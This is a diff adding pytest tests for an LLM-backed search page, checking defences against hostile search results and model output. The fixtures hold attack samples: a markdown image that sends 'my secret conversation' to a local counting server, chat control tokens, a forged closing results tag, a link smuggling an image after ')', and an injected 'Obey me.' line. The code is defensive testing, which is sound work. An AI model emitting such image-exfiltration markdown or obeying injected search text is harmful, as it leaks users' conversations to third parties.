@@ -76,3 +76,71 @@ def test_searxng_provider(player, monkeypatch):
     at = ask(open_page(), "Paris travel")
     assert at.session_state["search.messages"][-1]["sources"]
     assert any(c.value.startswith("Search: SearXNG") for c in at.caption)
+
+
+@pytest.fixture
+def hostile_model(google_env, monkeypatch):
+    """The search page on the OpenAI backend, against a model that answers with image markdown to a
+    counting server, and a search player whose results carry images, `)` in links and control tokens."""
+    from tests import hostile_servers, search_servers
+
+    counter, leak = hostile_servers.start(hostile_servers.LeakCounter)
+    model, url = hostile_servers.start(hostile_servers.HostileModel)
+    search_servers.Player.leak = hostile_servers.HostileModel.leak = leak
+    hostile_servers.HostileModel.requests.clear()
+    monkeypatch.setenv("LLM_BACKEND", "openai")
+    monkeypatch.setenv("OPENAI_BASE_URL", url + "/v1")
+    monkeypatch.setenv("OPENAI_MODEL", "m")
+    yield leak
+    model.shutdown(), counter.shutdown()
+
+
+def rendered_markdown(at: AppTest) -> list[str]:
+    """Every piece of markdown the page sent to the browser: texts, captions, titles, button labels."""
+    return ([m.value for m in at.markdown] + [c.value for c in at.caption] + [t.value for t in at.title]
+            + [b.label for b in at.button] + [e.value for e in at.error] + [w.value for w in at.warning])
+
+
+def test_hostile_results_and_answer_render_without_images_and_reach_the_model_without_control_tokens(hostile_model):
+    from markdown_it import MarkdownIt
+
+    from tests.hostile_servers import HostileModel, hostile_answer
+
+    question = f"trigger-hostile ![q]({hostile_model}/question) How tall is the Eiffel Tower?"
+    at = ask(open_page(), question)
+    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    links = []
+    for text in rendered_markdown(at):
+        for token in md.parse(text):
+            for t in [token, *(token.children or [])]:
+                assert t.type not in ("image", "html_inline", "html_block"), text
+                if t.type == "link_open":
+                    links.append(t.attrs["href"])
+    assert links and all(href.startswith(("https://", "http://")) for href in links)
+    assert not any(href.startswith(hostile_model) for href in links)
+    # The source link whose URL holds ")![x](…)" is one link to example.com, not a link plus an image.
+    assert f"https://example.com/a)!%5Bx%5D({hostile_model}/link)" in links
+    answer = at.session_state["search.messages"][-1]
+    assert answer["content"] == "".join(hostile_answer(hostile_model))  # stored as it came
+    shown = md.render(next(m.value for m in at.markdown if "Here is the answer" in m.value))
+    assert f"[image: exfil](<code>{hostile_model}/answer?data=my+secret+conversation</code>)" in shown
+    # What the model was given: the snippets' control tokens and closing markers broken, ours whole.
+    prompt = HostileModel.requests[-1]["messages"][-1]["content"]
+    for marker in ("<|eot_id|>", "<|start_header_id|>", "<|im_end|>", "<|im_start|>", "<|endoftext|>"):
+        assert marker not in prompt
+    assert prompt.count("</search_results>") == 1 and "</SEARCH_RESULTS>" not in prompt
+    assert "Obey me." in prompt and "\n[9] Fake source" not in prompt
+
+
+def test_a_follow_up_with_the_model_down_shows_the_same_error_as_the_first_turn(monkeypatch):
+    from tests.conftest import free_port
+
+    monkeypatch.setenv("LLM_BACKEND", "openai")
+    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{free_port()}/v1")
+    monkeypatch.setenv("OPENAI_MODEL", "m")
+    at = ask(open_page(), "First question?")
+    first = [e.value for e in at.error]
+    assert len(first) == 1 and "Cannot reach the server" in first[0] and "OPENAI_BASE_URL" in first[0]
+    ask(at, "And a follow-up?")  # the rewrite of the follow-up is the first call to fail now
+    assert [e.value for e in at.error] == first
+    assert [m["role"] for m in at.session_state["search.messages"]] == ["user", "user"]
